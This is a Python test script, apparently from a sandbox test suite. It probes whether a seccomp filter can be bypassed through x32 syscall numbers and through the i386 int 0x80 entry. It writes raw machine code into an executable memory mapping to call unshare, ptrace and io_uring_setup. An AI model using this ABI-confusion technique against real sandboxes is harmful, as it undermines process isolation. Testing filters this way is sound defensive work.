"""Attack: slip past the seccomp filter through the other syscall ABIs of an x86_64 kernel — the
x32 numbers (bit 30 set) and the i386 entry (int 0x80), whose syscall numbers differ. A filter
that does not check the architecture would match the wrong numbers."""
import ctypes
import errno
import json
import os

# prelude: syscalls  (tests/attacks/prelude/syscalls.py, inserted here by the runner)

import mmap

SYS_UNSHARE = 272
X32_SYSCALL_BIT = 0x40000000
CLONE_NEWUSER = 0x10000000
I386_UNSHARE = 310
I386_PTRACE = 26
I386_IO_URING_SETUP = 425


def int80_caller(number):
    """Machine code for `push rbx; mov eax, number; mov ebx, edi; int 0x80; pop rbx; ret`: a call
    through the 32-bit syscall entry, which a filter that checks no architecture lets through."""
    code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\x89\xfb\xcd\x80\x5b\xc3"
    region = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    region.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(region))
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(address)
    function.region = region  # keep the mapping alive
    return function


def via_int80(number, argument):
    try:
        function = int80_caller(number)
    except (OSError, ValueError) as error:
        return {"succeeded": False, "errno": "EPERM", "note": "no executable mapping: %s" % error}
    ret = function(argument)
    if ret < 0:
        return {"succeeded": False, "errno": errno.errorcode.get(-ret, str(-ret))}
    return {"succeeded": True, "ret": ret}


def main():
    return {"outcomes": {
        "x32 unshare(CLONE_NEWUSER)": attempt_syscall(X32_SYSCALL_BIT | SYS_UNSHARE, CLONE_NEWUSER),
        "int 0x80 unshare(CLONE_NEWUSER)": in_child(lambda: via_int80(I386_UNSHARE, CLONE_NEWUSER)),
        "int 0x80 ptrace(TRACEME)": in_child(lambda: via_int80(I386_PTRACE, 0)),
        "int 0x80 io_uring_setup": in_child(lambda: via_int80(I386_IO_URING_SETUP, 0)),
    }}
